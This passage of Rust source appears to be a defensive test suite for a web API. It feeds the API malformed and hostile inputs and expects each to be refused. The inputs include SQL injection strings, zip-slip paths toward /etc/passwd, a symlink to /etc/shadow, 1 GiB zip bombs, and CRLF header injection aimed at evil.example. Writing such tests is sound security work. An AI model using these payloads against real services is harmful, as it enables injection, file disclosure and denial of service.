                .bytes(open.clone())
                .status(400, "invalid_json")
                .codes(&["invalid_json", "invalid_request"]),
        );
        out.push(
            ep.case("deep nesting", "a field holding 100,000 balanced [ ]")
                .bytes(with_raw(&ep.base, ep.text_field(), closed.as_bytes()))
                .status_any_code(400),
        );
    }
    let comment = eps
        .iter()
        .find(|e| e.label == "create comment")
        .expect("comments");
    for (what, raw) in [
        ("target of 100,000 balanced [ ]", closed.as_bytes()),
        ("target of 50,000 nested objects", objects.as_bytes()),
    ] {
        out.push(
            comment
                .case("deep nesting", what)
                .bytes(with_raw(&comment.base, "target", raw))
                .status_any_code(400),
        );
        out.push(
            comment
                .case("deep nesting", &format!("selector.exact: {what}"))
                .bytes(with_raw(&comment.base, "target.selector.exact", raw))
                .status_any_code(400),
        );
    }
    out
}

fn invalid_utf8(eps: &[Endpoint]) -> Vec<Case> {
    let bad: &[(&str, &[u8])] = &[
        ("a lone 0xFF byte", b"\"ab\xffcd\""),
        ("an overlong '/'", b"\"ab\xc0\xafcd\""),
        ("an encoded surrogate", b"\"ab\xed\xa0\x80cd\""),
        ("a cut-off sequence", b"\"ab\xe2\x82\""),
        ("an escaped lone surrogate", b"\"ab\\ud800cd\""),
    ];
    let mut out = Vec::new();
    for ep in eps {
        for (what, raw) in bad {
            let code: &'static str = "invalid_json";
            out.push(
                ep.case(
                    "invalid UTF-8",
                    &format!("{} holds {what}", ep.text_field()),
                )
                .bytes(with_raw(&ep.base, ep.text_field(), raw))
                .status_any_code(400)
                .codes(&[code, "invalid_request", "invalid_target"]),
            );
        }
        // The whole body in UTF-16 with a byte-order mark.
        let mut utf16 = vec![0xff, 0xfe];
        for unit in ep.base.to_string().encode_utf16() {
            utf16.extend_from_slice(&unit.to_le_bytes());
        }
        out.push(
            ep.case("invalid UTF-8", "a UTF-16 body")
                .bytes(utf16)
                .status(400, "invalid_json"),
        );
    }
    out
}

/// A text field with a limit, and what a violation answers.
struct Text {
    ep: &'static str,
    path: &'static str,
    /// The limit in characters (or bytes for `target.source`), if any.
    max: Option<usize>,
    bytes: bool,
    email: bool,
    /// Status and code for a NUL, and for one character too many.
    nul: (u16, &'static str),
    long: (u16, &'static str),
    /// Whether empty or blank is refused (and with which code).
    empty: Option<&'static str>,
    sign_in_failure: bool,
}

const fn text(
    ep: &'static str,
    path: &'static str,
    max: Option<usize>,
    nul: (u16, &'static str),
    long: (u16, &'static str),
    empty: Option<&'static str>,
) -> Text {
    Text {
        ep,
        path,
        max,
        bytes: false,
        email: false,
        nul,
        long,
        empty,
        sign_in_failure: false,
    }
}

const BAD_TEXT: (u16, &str) = (400, "invalid_text");
const TOO_LONG: (u16, &str) = (400, "too_long");
const BAD_TARGET: (u16, &str) = (400, "invalid_target");
const SETUP_CLOSED: (u16, &str) = (403, "setup_closed");
const BAD_CREDENTIALS: (u16, &str) = (401, "invalid_credentials");

fn text_fields() -> Vec<Text> {
    let label = |ep, path, max| text(ep, path, Some(max), BAD_TEXT, TOO_LONG, Some("required"));
    let optional = |ep, path, max| text(ep, path, Some(max), BAD_TEXT, TOO_LONG, None);
    let target = |ep, path, max, empty: bool| {
        text(
            ep,
            path,
            Some(max),
            BAD_TARGET,
            BAD_TARGET,
            empty.then_some("invalid_target"),
        )
    };
    let mut fields = vec![
        label("create key", "name", 100),
        label("create agent", "name", 100),
        optional("create agent", "role", 100),
        label("update agent", "name", 100),
        optional("update agent", "role", 100),
        text(
            "setup",
            "name",
            Some(100),
            SETUP_CLOSED,
            SETUP_CLOSED,
            Some("setup_closed"),
        ),
        text("setup", "email", None, SETUP_CLOSED, SETUP_CLOSED, None),
        text("setup", "token", None, SETUP_CLOSED, SETUP_CLOSED, None),
        text("setup", "password", None, SETUP_CLOSED, SETUP_CLOSED, None),
        label("create artifact", "name", 200),
        optional("create artifact", "description", 500),
        optional("create artifact", "versionName", 100),
        text(
            "create artifact",
            "fileType",
            None,
            (400, ""),
            (400, ""),
            None,
        ),
        label("update artifact", "name", 200),
        optional("update artifact", "description", 500),
        optional("new version", "name", 100),
        optional("new version", "versionName", 100),
        optional("rename version", "name", 100),
        label("create comment", "content", 10_000),
        target("create comment", "target.selector.exact", 2_000, true),
        target("create comment", "target.selector.prefix", 500, false),
        target("create comment", "target.selector.suffix", 500, false),
        target(
            "create comment (CSS selector)",
            "target.selector.value",
            2_000,
            true,
        ),
        label("update comment", "content", 10_000),
        label("create reply", "content", 5_000),
        label("update reply", "content", 5_000),
        text(
            "grant access",
            "role",
            None,
            (400, "invalid_role"),
            (400, "invalid_role"),
            None,
        ),
        label("update account", "name", 100),
        text(
            "change password",
            "newPassword",
            Some(1_000),
            BAD_TEXT,
            TOO_LONG,
            None,
        ),
        text(
            "create invite",
            "role",
            None,
            (400, "invalid_role"),
            (400, "invalid_role"),
            None,
        ),
        label("accept invite", "name", 100),
        text(
            "accept invite",
            "password",
            Some(1_000),
            BAD_TEXT,
            TOO_LONG,
            None,
        ),
    ];
    let mut source = target("create comment", "target.source", 1_024, true);
    source.bytes = true;
    fields.push(source);
    for (ep, empty) in [("grant access", Some("required")), ("accept invite", None)] {
        let mut email = text(ep, "email", Some(254), BAD_TEXT, TOO_LONG, empty);
        email.email = true;
        fields.push(email);
    }
    // What strangers type is bounded before it is looked at (issue 13): longer is a 400 naming
    // the limit, never a sign-in attempt.
    for (path, max) in [("email", 254), ("password", 1_000)] {
        let mut f = text("sign in", path, Some(max), BAD_CREDENTIALS, TOO_LONG, None);
        f.email = path == "email";
        f.sign_in_failure = true;
        fields.push(f);
    }
    let mut current = text(
        "change password",
        "currentPassword",
        Some(1_000),
        (403, "wrong_password"),
        TOO_LONG,
        None,
    );
    current.sign_in_failure = true;
    fields.push(current);
    let mut token = text(
        "accept invite",
        "token",
        Some(200),
        (403, "invalid_invite"),
        TOO_LONG,
        None,
    );
    token.sign_in_failure = true;
    fields.push(token);
    fields
}

fn expecting(case: Case, (status, code): (u16, &'static str), failure: bool) -> Case {
    let case = if code.is_empty() {
        case.status_any_code(status)
    } else {
        case.status(status, code)
    };
    if failure {
        case.sign_in_failure()
    } else {
        case
    }
}

fn text_cases(eps: &[Endpoint]) -> Vec<Case> {
    let mut out = Vec::new();
    for f in text_fields() {
        let ep = eps
            .iter()
            .find(|e| e.label == f.ep)
            .unwrap_or_else(|| panic!("no endpoint {}", f.ep));
        let sample = if f.email {
            "sam@example.com"
        } else if f.path.ends_with("role") && f.nul.1 == "invalid_role" {
            if f.ep == "grant access" {
                "can-comment"
            } else {
                "member"
            }
        } else if f.path == "target.source" {
            "index.html"
        } else if f.path == "fileType" {
            "html"
        } else {
            "ab"
        };
        // NUL, escaped in the middle and at the end of the text.
        let (head, tail) = sample.split_at(sample.len() / 2);
        for (what, value) in [
            ("NUL in the middle", format!("{head}\u{0}{tail}")),
            ("NUL at the end", format!("{sample}\u{0}")),
        ] {
            out.push(expecting(
                ep.case("NUL byte", &format!("{} with {what}", f.path))
                    .json(&with(&ep.base, f.path, json!(value))),
                f.nul,
                f.sign_in_failure,
            ));
        }
        // A raw NUL byte inside a JSON string is not JSON.
        let mut raw = b"\"a".to_vec();
        raw.push(0);
        raw.extend_from_slice(b"b\"");
        let case = ep
            .case("NUL byte", &format!("{} with a raw NUL byte", f.path))
            .bytes(with_raw(&ep.base, f.path, &raw))
            .status(400, "invalid_json");
        out.push(case);

        if let Some(max) = f.max {
            for (what, c) in [("ASCII", 'x'), ("2-byte", 'é'), ("4-byte", '😀')] {
                let value: String = if f.email {
                    let domain = "@example.com";
                    let local = max + 1 - domain.chars().count();
                    format!("{}{domain}", c.to_string().repeat(local))
                } else if f.bytes {
                    // Just over the limit in bytes.
                    c.to_string().repeat(max / c.len_utf8() + 1)
                } else {
                    c.to_string().repeat(max + 1)
                };
                let unit = if f.bytes { "bytes" } else { "characters" };
                let size = if f.bytes {
                    value.len()
                } else {
                    value.chars().count()
                };
                out.push(expecting(
                    ep.case(
                        "overlong",
                        &format!("{} of {size} {what} {unit} (limit {max})", f.path),
                    )
                    .json(&with(&ep.base, f.path, json!(value))),
                    f.long,
                    f.sign_in_failure,
                ));
            }
        } else if f.sign_in_failure {
            out.push(expecting(
                ep.case("overlong", &format!("{} of 100,000 characters", f.path))
                    .json(&with(&ep.base, f.path, json!("é".repeat(100_000)))),
                f.long,
                true,
            ));
        }
        if let Some(code) = f.empty {
            let status = if code == "setup_closed" { 403 } else { 400 };
            // Selectors are not trimmed (a quote may be whitespace); labels and bodies are.
            let blanks: &[(&str, &str)] = if f.path.starts_with("target.") {
                &[("empty", "")]
            } else {
                &[("empty", ""), ("blank", " \t\n\u{a0}\u{3000} ")]
            };
            for (what, value) in blanks {
                out.push(
                    ep.case("empty", &format!("{} {what}", f.path))
                        .json(&with(&ep.base, f.path, json!(value)))
                        .status(status, code),
                );
            }
        }
    }
    out
}

/// SQL metacharacters where they cannot be valid (ids, tokens, keys, emails): refused like
/// anything else, with the tables intact.
fn sql_injection(w: &World) -> Vec<Case> {
    let mut out = Vec::new();
    let share = &w.share;
    for (what, token) in [
        ("' OR 1=1--", "%27%20OR%201%3D1--"),
        ("' OR '1'='1", "%27%20OR%20%271%27%3D%271"),
        (
            "\"; DROP TABLE artifacts;--",
            "%22%3B%20DROP%20TABLE%20artifacts%3B--",
        ),
        ("%", "%25"),
        ("_ (a LIKE wildcard)", "____________"),
        ("% then the token", &format!("%25{share}")),
        ("the token then %", &format!("{share}%25")),
        ("a backslash", "%5C"),
    ] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("share token {what}"),
                "GET",
                format!("/api/v1/artifacts/{token}"),
                &w.user_key,
            )
            .status(404, "not_found"),
        );
        out.push(
            Case::new(
                "sql metacharacters",
                format!("comment on share token {what}"),
                "POST",
                format!("/api/v1/artifacts/{token}/comments"),
                &w.user_key,
            )
            .json(&json!({"content": "x", "target": quote_target("Monthly revenue")}))
            .status(404, "not_found"),
        );
    }
    for id in [
        "1%20OR%201%3D1",
        "1%3B%20DROP%20TABLE%20comments",
        "%25",
        "1%27",
    ] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("delete comment {id}"),
                "DELETE",
                format!("/api/v1/comments/{id}"),
                &w.user_key,
            )
            .status(404, "not_found"),
        );
    }
    for key in [
        "' OR '1'='1",
        "ar_live_' OR 1=1 --",
        "ar_live_%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%",
        "ar_live________________________________",
    ] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("key {key:?}"),
                "GET",
                "/api/v1/me",
                &Auth::Key(key.to_string()),
            )
            .status(401, "invalid_key"),
        );
    }
    for agent in ["1 OR 1=1", "1; DROP TABLE agents", "%", "_"] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("agentId {agent:?}"),
                "POST",
                "/api/v1/keys",
                &w.cookie,
            )
            .json(&json!({"name": "k", "agentId": agent}))
            .status(400, "unknown_agent"),
        );
    }
    for email in ["x' OR 1=1--", "\" OR \"\"=\"", "a@b'; DROP TABLE users;--"] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("access for {email:?}"),
                "POST",
                format!("/api/v1/artifacts/{share}/access"),
                &w.user_key,
            )
            .json(&json!({"email": email}))
            .status(400, "invalid_text"),
        );
    }
    for query in [
        "status=all'--",
        "status=%25",
        "status=active%27%20OR%201%3D1",
    ] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("keys?{query}"),
                "GET",
                format!("/api/v1/keys?{query}"),
                &w.cookie,
            )
            .status(400, "invalid_query"),
        );
    }
    for query in ["keyId=1%20OR%201%3D1", "keyId=%25", "cursor=%27"] {
        out.push(
            Case::new(
                "sql metacharacters",
                format!("activity?{query}"),
                "GET",
                format!("/api/v1/activity?{query}"),
                &w.cookie,
            )
            .status_any_code(400),
        );
    }
    out
}

fn sign_in_attempts() -> Vec<Case> {
    let mut out = Vec::new();
    for (what, email, password) in [
        ("a wrong password", "ada@example.com", "wrong password"),
        ("an unknown email", "nobody@example.com", OWNER_PASSWORD),
        ("SQL in the email", "' OR 1=1--", OWNER_PASSWORD),
        ("SQL after the email", "ada@example.com' --", "x"),
        ("SQL in the password", "ada@example.com", "' OR '1'='1"),
        (
            "LIKE wildcards in the email",
            "%@example.com",
            OWNER_PASSWORD,
        ),
        (
            "a LIKE wildcard for one letter",
            "_da@example.com",
            OWNER_PASSWORD,
        ),
    ] {
        out.push(
            Case::new(
                "sign-in",
                format!("sign in with {what}"),
                "POST",
                "/api/v1/session",
                &Auth::None,
            )
            .json(&json!({"email": email, "password": password}))
            .status(401, "invalid_credentials")
            .sign_in_failure(),
        );
    }
    out
}

fn zip_cases(w: &World) -> Result<Vec<Case>, Box<dyn std::error::Error>> {
    let good = zip_named(&["index.html", "a.css"])?;
    let mut zips: Vec<(&str, Vec<u8>, &'static str)> = vec![
        (
            "zip slip",
            zip_named(&["index.html", "../../evil.html"])?,
            "unsafe_path",
        ),
        (
            "zip slip with backslashes",
            zip_named(&["index.html", "..\\..\\evil.html"])?,
            "unsafe_path",
        ),
        (
            "zip slip in the middle",
            zip_named(&["index.html", "a/../../evil.html"])?,
            "unsafe_path",
        ),
        (
            "absolute path",
            zip_named(&["index.html", "/etc/passwd"])?,
            "unsafe_path",
        ),
        (
            "drive letter",
            zip_named(&["index.html", "C:\\windows\\evil.html"])?,
            "unsafe_path",
        ),
        (
            "NUL in an entry name",
            zip_named(&["index.html", "evil\u{0}.html"])?,
            "unsafe_path",
        ),
        (
            "case-insensitive duplicate",
            zip_named(&["index.html", "A.html", "a.html"])?,
            "duplicate_path",
        ),
        (
            "forbidden file types",
            zip_named(&["index.html", "bin/tool.exe", "docs/spec.docx", "clip.MP4"])?,
            "forbidden_file_type",
        ),
        (
            "no entry point",
            zip_named(&["style.css", "app.js"])?,
            "no_entry_point",
        ),
        (
            "truncated archive",
            good[..good.len() / 2].to_vec(),
            "invalid_zip",
        ),
        (
            "not a ZIP",
            b"this is not a zip file at all".to_vec(),
            "invalid_zip",
        ),
        ("empty bytes", Vec::new(), "invalid_zip"),
        ("PK and nothing else", b"PK\x03\x04".to_vec(), "invalid_zip"),
    ];
    // Symlink.
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("index.html", deflated())?;
    writer.write_all(b"<p>hi</p>")?;
    writer.add_symlink("secrets.html", "/etc/shadow", deflated())?;
    zips.push((
        "symlink",
        writer.finish()?.into_inner(),
        "symlink_not_allowed",
    ));
    // Exact duplicate.
    let mut dup = zip_named(&["index.html", "b.html", "c.html"])?;
    rename(&mut dup, "c.html", "b.html");
    zips.push(("exact duplicate", dup, "duplicate_path"));
    // Encrypted.
    let mut enc = zip_named(&["index.html", "secret.html"])?;
    set_flags(&mut enc, "secret.html", 1);
    zips.push(("encrypted entry", enc, "encrypted_entry"));
    // Unknown compression method.
    let mut method = zip_named(&["index.html", "odd.html"])?;
    set_method(&mut method, "odd.html", 99);
    zips.push(("unknown compression method", method, "invalid_zip"));
    // 501 files.
    let mut names: Vec<String> = (0..500).map(|i| format!("assets/f{i:03}.txt")).collect();
    names.push("index.html".into());
    let refs: Vec<&str> = names.iter().map(String::as_str).collect();
    zips.push(("501 files", zip_named(&refs)?, "too_many_files"));
    // Bombs.
    let stream = deflate_zeros(1 << 30);
    zips.push((
        "1 GiB bomb, declared",
        raw_deflated_zip("index.html", &stream, u32::MAX, 0),
        "file_too_large",
    ));
    zips.push((
        "1 GiB bomb, lying about its size",
        raw_deflated_zip("index.html", &stream, 1000, 0),
        "extracted_too_large",
    ));
    // A file one byte over 5 MB.
    zips.push((
        "a file of 5 MB + 1",
        zip_of(&[
            ("index.html", b"<p>hi</p>"),
            ("data.bin", &vec![1u8; 5 * MB + 1]),
        ])?,
        "file_too_large",
    ));

    let mut out = Vec::new();
    let share = &w.share;
    for (what, bytes, code) in &zips {
        let targets = [
            ("/api/v1/artifacts".to_string(), "new artifact"),
            (format!("/api/v1/artifacts/{share}/versions"), "new version"),
        ];
        for (path, label) in &targets {
            let json_case = Case::new(
                "hostile zip",
                format!("{label} (JSON): {what}"),
                "POST",
                path.clone(),
                &w.user_key,
            )
            .json(&json!({"name": "hostile", "fileName": "site.zip", "content": b64(bytes)}));
            out.push(if code.is_empty() {
                json_case.status_any_code(400)
            } else {
                json_case.status(400, code)
            });
            let (content_type, body) = multipart(&[
                ("file", Some("site.zip"), bytes),
                ("name", None, b"hostile"),
            ]);
            let form_case = Case::new(
                "hostile zip",
                format!("{label} (multipart): {what}"),
                "POST",
                path.clone(),
                &w.user_key,
            )
            .bytes(body)
            .header("Content-Type", content_type);
            out.push(if code.is_empty() {
                form_case.status_any_code(400)
            } else {
                form_case.status(400, code)
            });
        }
    }
    // An archive of 50 MB + 1 byte, as multipart (no base64 inflation).
    let mut big = vec![0u8; 50 * MB + 1];
    big[..2].copy_from_slice(b"PK");
    let (content_type, body) =
        multipart(&[("file", Some("big.zip"), &big), ("name", None, b"big")]);
    out.push(
        Case::new(
            "hostile zip",
            "an archive of 50 MB + 1",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(body)
        .header("Content-Type", content_type)
        .status(400, "archive_too_large"),
    );
    // The entry point must be a file of the archive.
    let site = zip_named(&["index.html", "about.html"])?;
    for entry in [
        "../index.html",
        "/index.html",
        "nope.html",
        "index.html\u{0}",
        "about",
    ] {
        out.push(
            Case::new(
                "hostile zip",
                format!("entryPoint {entry:?}"),
                "POST",
                "/api/v1/artifacts",
                &w.user_key,
            )
            .json(&json!({"name": "n", "fileName": "s.zip", "content": b64(&site), "entryPoint": entry}))
            .status_any_code(400),
        );
    }
    // Content that is not base64.
    for content in ["!!! not base64 !!!", "UEsDBA", "UEsDBA===="] {
        out.push(
            Case::new(
                "hostile zip",
                format!("content {content:?}"),
                "POST",
                "/api/v1/artifacts",
                &w.user_key,
            )
            .json(&json!({"name": "n", "fileType": "zip", "content": content}))
            .status_any_code(400),
        );
    }
    // Single files over 5 MB, and types that are not artifacts.
    let over = "x".repeat(5 * MB + 1);
    for file_name in ["page.html", "notes.md"] {
        out.push(
            Case::new(
                "hostile zip",
                format!("{file_name} of 5 MB + 1"),
                "POST",
                "/api/v1/artifacts",
                &w.user_key,
            )
            .json(&json!({"name": "n", "fileName": file_name, "content": over}))
            .status(400, "file_too_large"),
        );
    }
    for (file_name, file_type) in [
        ("tool.exe", None),
        ("noextension", None),
        ("page.html", Some("pdf")),
        ("page.html", Some("")),
    ] {
        let mut body = json!({"name": "n", "fileName": file_name, "content": "<p>x</p>"});
        if let Some(t) = file_type {
            body["fileType"] = json!(t);
            if t.is_empty() {
                body["fileName"] = json!("noextension");
            }
        }
        out.push(
            Case::new(
                "hostile zip",
                format!("fileName {file_name:?}, fileType {file_type:?}"),
                "POST",
                "/api/v1/artifacts",
                &w.user_key,
            )
            .json(&body)
            .status_any_code(400),
        );
    }
    Ok(out)
}

fn multipart_cases(w: &World) -> Vec<Case> {
    let mut out = Vec::new();
    let page = b"<p>hello</p>".as_slice();
    let form = |name: &str, parts: &[(&str, Option<&str>, &[u8])]| {
        let (content_type, body) = multipart(parts);
        Case::new(
            "multipart",
            name.to_string(),
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(body)
        .header("Content-Type", content_type)
    };
    out.push(form("no file part", &[("name", None, b"n")]).status(400, "invalid_multipart"));
    out.push(
        form(
            "an unknown field",
            &[
                ("file", Some("a.html"), page),
                ("name", None, b"n"),
                ("owner", None, b"1"),
            ],
        )
        .status(400, "invalid_multipart"),
    );
    out.push(
        form(
            "a name of 201 4-byte characters",
            &[
                ("file", Some("a.html"), page),
                ("name", None, "😀".repeat(201).as_bytes()),
            ],
        )
        .status(400, "too_long"),
    );
    out.push(
        form(
            "a name with NUL",
            &[("file", Some("a.html"), page), ("name", None, b"a\0b")],
        )
        .status(400, "invalid_text"),
    );
    out.push(
        form(
            "a name that is not UTF-8",
            &[("file", Some("a.html"), page), ("name", None, b"ab\xffcd")],
        )
        .status_any_code(400)
        .bug("multipart_utf8"),
    );
    let (content_type, mut body) = multipart(&[
        ("file", Some("PLACEHOLDER.html"), page),
        ("name", None, b"n"),
    ]);
    let at = find_bytes(&body, b"PLACEHOLDER").expect("the file name");
    body.splice(at..at + 11, b"\xff\xfe\xc0\xaf".iter().copied());
    out.push(
        Case::new(
            "multipart",
            "a file name that is not UTF-8",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(body)
        .header("Content-Type", content_type)
        .status_any_code(400),
    );
    out.push(
        form(
            "a file name with NUL",
            &[
                ("file", Some("in\u{0}dex.html"), page),
                ("name", None, b"n"),
            ],
        )
        .status_any_code(400),
    );
    out.push(
        form(
            "a file name with a path",
            &[
                ("file", Some("../../etc/passwd"), page),
                ("name", None, b"n"),
            ],
        )
        .status_any_code(400),
    );
    out.push(
        form(
            "a description of 501 2-byte characters",
            &[
                ("file", Some("a.html"), page),
                ("name", None, b"n"),
                ("description", None, "é".repeat(501).as_bytes()),
            ],
        )
        .status(400, "too_long"),
    );
    let (content_type, body) = multipart(&[("file", Some("a.html"), page), ("name", None, b"n")]);
    let cut = body[..body.len() - 10].to_vec();
    out.push(
        Case::new(
            "multipart",
            "a body cut before its closing boundary",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(cut)
        .header("Content-Type", content_type.clone())
        .status(400, "invalid_multipart"),
    );
    out.push(
        Case::new(
            "multipart",
            "no boundary in the Content-Type",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(body.clone())
        .header("Content-Type", "multipart/form-data")
        .status(400, "invalid_multipart"),
    );
    out.push(
        Case::new(
            "multipart",
            "a different boundary than the body's",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .bytes(body)
        .header("Content-Type", "multipart/form-data; boundary=other")
        .status(400, "invalid_multipart"),
    );
    out.push(
        Case::new(
            "multipart",
            "a JSON body sent as multipart",
            "POST",
            "/api/v1/artifacts",
            &w.user_key,
        )
        .json(&json!({"name": "n", "fileName": "a.html", "content": "<p>x</p>"}))
        .header("Content-Type", "multipart/form-data; boundary=x")
        .status(400, "invalid_multipart"),
    );
    out
}

fn raw_request(w: &World, method: &str, path: &str, lines: &[&str], body: &[u8]) -> Vec<u8> {
    let mut out = format!("{method} {path} HTTP/1.1\r\nHost: {}\r\n", w.server.host()).into_bytes();
    for line in lines {
        out.extend_from_slice(line.as_bytes());
        out.extend_from_slice(b"\r\n");
    }
    if !body.is_empty() {
        out.extend_from_slice(format!("Content-Length: {}\r\n", body.len()).as_bytes());
    }
    out.extend_from_slice(b"Connection: close\r\n\r\n");
    out.extend_from_slice(body);
    out
}

fn chunked(body: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in body.chunks(size) {
        out.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        out.extend_from_slice(chunk);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

fn body_limits(w: &World) -> Vec<Case> {
    let mut out = Vec::new();
    let key_line = format!("X-API-Key: {}", w.key);
    let big_name = format!("{{\"name\": \"{}\"}}", "x".repeat(MB));
    let big_comment =
        json!({"content": "x".repeat(MB), "target": quote_target("Monthly revenue")}).to_string();
    let comments = format!("/api/v1/artifacts/{}/comments", w.share);
    for (what, method, path, auth, body) in [
        (
            "create agent",
            "POST",
            "/api/v1/agents",
            &w.user_key,
            &big_name,
        ),
        ("create key", "POST", "/api/v1/keys", &w.cookie, &big_name),
        (
            "create comment",
            "POST",
            comments.as_str(),
            &w.user_key,
            &big_comment,
        ),
        (
            "update account",
            "PATCH",
            "/api/v1/account",
            &w.cookie,
            &big_name,
        ),
    ] {
        out.push(
            Case::new(
                "body limit",
                format!("{what}: 1 MB + a few bytes with Content-Length"),
                method,
                path,
                auth,
            )
            .bytes(body.as_bytes().to_vec())
            .status(413, "payload_too_large"),
        );
    }
    for (what, path, body) in [
        ("create agent", "/api/v1/agents", &big_name),
        ("create comment", comments.as_str(), &big_comment),
    ] {
        let mut bytes = raw_request(
            w,
            "POST",
            path,
            &[
                key_line.as_str(),
                "Content-Type: application/json",
                "Transfer-Encoding: chunked",
            ],
            &[],
        );
        bytes.extend_from_slice(&chunked(body.as_bytes(), 64 * 1024));
        out.push(
            Case::raw(
                "body limit",
                format!("{what}: 1 MB + a few bytes chunked, no Content-Length"),
                bytes,
            )
            .status(413, "payload_too_large"),
        );
    }
    for (what, path, announced) in [
        ("new artifact", "/api/v1/artifacts", 200 * MB),
        ("create agent", "/api/v1/agents", 10 * 1024 * MB),
    ] {
        let bytes = raw_request(
            w,
            "POST",
            path,
            &[
                key_line.as_str(),
                "Content-Type: application/json",
                &format!("Content-Length: {announced}"),
            ],
            &[],
        );
        out.push(
            Case::raw(
                "body limit",
                format!("{what}: Content-Length {announced} announced, nothing sent"),
                bytes,
            )
            .status(413, "payload_too_large"),
        );
    }
    // An upload body over the 72 MB transport limit, chunked.
    let mut bytes = raw_request(
        w,
        "POST",
        "/api/v1/artifacts",
        &[
            key_line.as_str(),
            "Content-Type: application/json",
            "Transfer-Encoding: chunked",
        ],
        &[],
    );
    let mut upload = b"{\"name\": \"n\", \"fileName\": \"a.html\", \"content\": \"".to_vec();
    upload.resize(73 * MB, b'x');
    upload.extend_from_slice(b"\"}");
    bytes.extend_from_slice(&chunked(&upload, 1024 * 1024));
    out.push(
        Case::raw(
            "body limit",
            "new artifact: 73 MB chunked, no Content-Length",
            bytes,
        )
        .status(413, "payload_too_large"),
    );
    // A body shorter than announced, then the client stops sending.
    let mut bytes = raw_request(
        w,
        "POST",
        "/api/v1/agents",
        &[
            key_line.as_str(),
            "Content-Type: application/json",
            "Content-Length: 100",
        ],
        &[],
    );
    bytes.extend_from_slice(b"{\"name\": \"cut");
    out.push(
        Case::raw(
            "body limit",
            "create agent: 13 of 100 announced bytes, then the client stops sending",
            bytes,
        )
        .half_close()
        .status(400, "body_read_failed"),
    );
    // A chunked body with a broken chunk size.
    let mut bytes = raw_request(
        w,
        "POST",
        "/api/v1/agents",
        &[
            key_line.as_str(),
            "Content-Type: application/json",
            "Transfer-Encoding: chunked",
        ],
        &[],
    );
    bytes.extend_from_slice(b"zz\r\n{\"name\": \"x\"}\r\n0\r\n\r\n");
    out.push(
        Case::raw(
            "body limit",
            "create agent: a chunk size that is not hex",
            bytes,
        )
        .status(400, "body_read_failed"),
    );
    out
}

fn header_tricks(w: &World) -> Vec<Case> {
    let mut out = Vec::new();
    let key = &w.key;
    let agent_body = br#"{"name": "injected"}"#;
    let post_agent = |lines: &[&str]| raw_request(w, "POST", "/api/v1/agents", lines, agent_body);
    let get = |path: &str, lines: &[&str]| raw_request(w, "GET", path, lines, &[]);
    let key_line = format!("X-API-Key: {key}");

    out.push(
        Case::raw(
            "headers",
            "bare CR inside X-API-Key",
            post_agent(&[&format!("X-API-Key: {key}\rSet-Cookie: a=b")]),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "bare LF splitting X-API-Key into a second header",
            post_agent(&["X-API-Key: junk\nX-Injected: 1"]),
        )
        .status(401, "invalid_key"),
    );
    out.push(
        Case::raw(
            "headers",
            "CR LF percent-encoded in the path",
            get(
                "/api/v1/artifacts/x%0d%0aSet-Cookie:%20ar_session=evil",
                &[key_line.as_str()],
            ),
        )
        .status(404, "not_found")
        .absent("set-cookie"),
    );
    out.push(
        Case::raw(
            "headers",
            "CR LF percent-encoded in a viewer path",
            get(
                &format!("/a/{}%0d%0aLocation:%20http://evil.example/v/1/", w.share),
                &[],
            ),
        )
        .status_any_code(404)
        .absent("location"),
    );
    out.push(
        Case::raw(
            "headers",
            "NUL inside X-API-Key",
            post_agent(&["X-API-Key: ar_live_\0abc"]),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "a control character inside X-API-Key",
            post_agent(&[&format!("X-API-Key: {key}\x01")]),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "DEL inside X-API-Key",
            post_agent(&[&format!("X-API-Key: {}\x7f", &key[..39])]),
        )
        .one_of(&[400, 401], &["invalid_key"])
        .parser(),
    );
    let mut obs = post_agent(&[]);
    let at = find_bytes(&obs, b"Connection: close").expect("the connection line");
    let mut line = b"X-API-Key: ar_live_".to_vec();
    line.extend_from_slice(&[0xff; 32]);
    line.extend_from_slice(b"\r\n");
    obs.splice(at..at, line);
    out.push(Case::raw("headers", "bytes 0xFF in X-API-Key", obs).status(401, "invalid_key"));
    out.push(
        Case::raw(
            "headers",
            "UTF-8 letters in X-API-Key",
            post_agent(&[&format!("X-API-Key: ar_live_{}", "é".repeat(16))]),
        )
        .status(401, "invalid_key"),
    );
    out.push(
        Case::raw(
            "headers",
            "a space before the colon of a header name",
            post_agent(&[&format!("X-API-Key : {key}")]),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "an obsolete folded header line",
            post_agent(&["X-API-Key: ar_live_", &format!(" {}", &key[8..])]),
        )
        .one_of(&[400, 401], &["invalid_key"])
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "a second Host header, the foreign one first",
            {
                let mut b = format!(
                    "POST /api/v1/agents HTTP/1.1\r\nHost: evil.example\r\nHost: {}\r\n{key_line}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    w.server.host(),
                    agent_body.len()
                )
                .into_bytes();
                b.extend_from_slice(agent_body);
                b
            },
        )
        .status(400, "host_not_allowed"),
    );
    out.push(
        Case::raw(
            "headers",
            "a second Host header, ours first",
            {
                let mut b = format!(
